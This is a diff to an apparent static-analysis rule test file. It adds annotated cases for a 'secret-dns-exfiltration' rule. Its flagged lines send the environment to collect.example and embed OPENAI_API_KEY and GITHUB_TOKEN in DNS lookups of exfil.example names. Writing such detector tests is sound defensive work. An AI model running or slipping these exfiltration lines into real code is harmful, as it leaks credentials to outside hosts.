@@ -163,3 +163,21 @@ report = {"host": "ci-7", "env": dict(os.environ)}
 body = json.dumps(report)
 # ruleid: secret-exfiltration, http-client
 requests.post("https://collect.example/r", data=body, timeout=5)
+
+# secret-dns-exfiltration: a secret in a name that is looked up
+import dns.resolver
+
+# ruleid: secret-dns-exfiltration, socket-use
+socket.gethostbyname(os.environ["OPENAI_API_KEY"] + ".x.exfil.example")
+label = os.getenv("GITHUB_TOKEN", "").replace("_", "-")
+# ruleid: secret-dns-exfiltration
+dns.resolver.resolve(f"{label}.t.exfil.example", "TXT")
+# ok: secret-dns-exfiltration
+# ruleid: socket-use
+socket.gethostbyname(os.environ.get("DB_HOST", "localhost"))
+# ok: secret-dns-exfiltration
+# ruleid: event-loop-network, socket-use
+socket.create_connection((os.environ["REDIS_HOST"], 6379))
+# ok: secret-dns-exfiltration
+# ruleid: socket-use
+socket.getaddrinfo(*bind_address, type=socket.SOCK_STREAM)
